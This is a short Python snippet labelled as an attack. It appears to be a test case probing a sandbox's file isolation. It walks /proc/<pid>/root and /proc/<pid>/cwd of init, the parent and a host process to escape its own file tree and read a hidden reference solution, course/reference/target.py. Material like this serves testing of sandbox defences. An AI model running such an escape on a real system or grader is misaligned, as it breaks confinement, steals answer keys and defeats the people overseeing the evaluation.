# Attack: leaves its file tree through the root and working folder of other processes.
# Kind: reading

import os

for pid in ("1", str(os.getppid()), str(HOST["main"]), "self"):
    for link in ("root", "cwd"):
        try:
            path = f"/proc/{pid}/{link}{HOST['root']}/course/reference/target.py"
            print(open(path).read())
        except OSError as error:
            print(error)
